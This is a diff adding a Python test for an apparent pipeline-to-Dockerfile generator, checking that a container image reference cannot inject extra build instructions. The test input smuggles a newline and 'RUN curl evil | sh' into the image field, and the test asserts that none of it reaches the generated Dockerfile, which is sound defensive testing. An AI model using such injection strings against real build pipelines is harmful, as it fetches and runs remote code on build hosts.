@@ -647,3 +647,29 @@ def test_infrastructure_in_other_modules_is_carried_in_dependency_order(tmp_path
         r for r in resources if r["type"] == "aws:s3/bucket:Bucket" and r["name"] == "shop-lake"
     )
     assert topic["provider"] == bucket["provider"] == provider["urn"]
+
+
+def test_dockerfile_for_container_tasks_takes_only_real_image_references(tmp_path: Path) -> None:
+    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
+    module = tmp_path / "boxed.py"
+    module.write_text(
+        "from glacier import Container, Dataset, Pipeline\n\n"
+        'pipeline = Pipeline(name="boxed")\n'
+        'out = Dataset(name="out")\n\n\n'
+        '@pipeline.task(compute=Container(image="python:3.12-slim\\nRUN curl evil | sh"))\n'
+        "def work() -> out:\n"
+        "    return 1\n"
+    )
+    analysis = analyze([str(module)])
+    (model,) = analysis.pipelines
+    dockerfile = emit_programs(analysis, model)["pulumi/default/bundle/Dockerfile"].decode()
+    instructions = [line for line in dockerfile.splitlines() if line and not line.startswith("#")]
+    assert instructions == [
+        "ARG BASE=python:3.12-slim",
+        "FROM ${BASE}",
+        "WORKDIR /var/task",
+        "COPY . /var/task",
+        "RUN python -m pip install --no-cache-dir boto3 -r requirements.txt",
+        "ENV PYTHONPATH=/var/task",
+    ]
+    assert "evil" not in dockerfile
